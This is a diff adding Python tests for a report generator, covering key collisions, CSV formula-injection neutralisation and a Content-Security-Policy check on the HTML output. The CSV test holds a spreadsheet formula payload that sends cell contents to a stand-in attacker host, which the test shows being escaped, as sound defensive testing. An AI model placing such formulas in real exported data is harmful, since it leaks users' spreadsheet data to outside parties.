@@ -169,3 +169,60 @@ def test_ten_thousand_candidates_make_a_report_of_sane_size(tmp_path: Path) -> N
     data = _embedded(paths.html.read_text(encoding="utf-8"))
     assert sum(len(it["pairs"]) for it in data["items"]) == 10_000
     assert paths.html.stat().st_size < 15_000_000
+
+
+# --- issue 11 -----------------------------------------------------------------------------------
+
+
+def _colliding() -> tuple[dict, dict]:
+    """Ids with "|" in them: joined with "|", both pairs used to get the key "s:p|s:q|s:r"."""
+    recs = {i: Counterparty(id=i, name=f"Firma {n}") for n, i in enumerate(["p", "q|s:r", "p|s:q", "r"])}
+    contract = {
+        "candidates": [
+            {"a": "p", "b": "q|s:r", "score": 0.9, "band": "review", "evidence": []},
+            {"a": "p|s:q", "b": "r", "score": 0.8, "band": "review", "evidence": []},
+        ],
+        "clusters": [],
+    }
+    return contract, recs
+
+
+def test_item_keys_cannot_collide() -> None:
+    contract, recs = _colliding()
+    data = build_report_data(contract, recs, generated_at="t")
+    keys = [it["key"] for it in data.items]
+    assert len(set(keys)) == 2, keys
+    # The key is the sorted ids as JSON: unambiguous whatever the ids hold.
+    assert [json.loads(k) for k in keys] == [["p", "q|s:r"], ["p|s:q", "r"]]
+
+
+def test_every_csv_cell_from_a_record_is_neutralised(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    recs = {
+        formula: Counterparty(id=formula, name="Evil One"),
+        "+SUM(1)": Counterparty(id="+SUM(1)", name="Evil Two", tin="@cmd"),
+    }
+    contract = {
+        "candidates": [{"a": formula, "b": "+SUM(1)", "score": 0.9, "band": "merge", "evidence": []}],
+        "clusters": [{"ids": [formula, "+SUM(1)"], "survivor": formula}],
+    }
+    paths = write_report(contract, recs, tmp_path, generated_at="t")
+    rows = list(csv.reader(paths.csv.read_bytes().decode("utf-8-sig").splitlines()))
+    for row in rows[1:]:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["a"] == "'" + formula and row["b"] == "'+SUM(1)" and row["survivor"] == "'" + formula
+
+
+def test_the_page_loads_nothing_from_the_network(tmp_path: Path) -> None:
+    """Remote logos are not <img> sources and the CSP allows images from data: only."""
+    recs = records()
+    recs[3] = recs[3].model_copy(update={"logoUrl": "http://internal-host/x.png?id=7"})
+    html = write_report(CONTRACT, recs, tmp_path, generated_at="t").html.read_text(encoding="utf-8")
+    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html)
+    assert csp, "no CSP"
+    img = next(d for d in csp.group(1).split(";") if d.strip().startswith("img-src")).split()[1:]
+    assert img == ["data:"], csp.group(1)
+    for directive in csp.group(1).split(";"):
+        assert "http" not in directive and "*" not in directive, directive
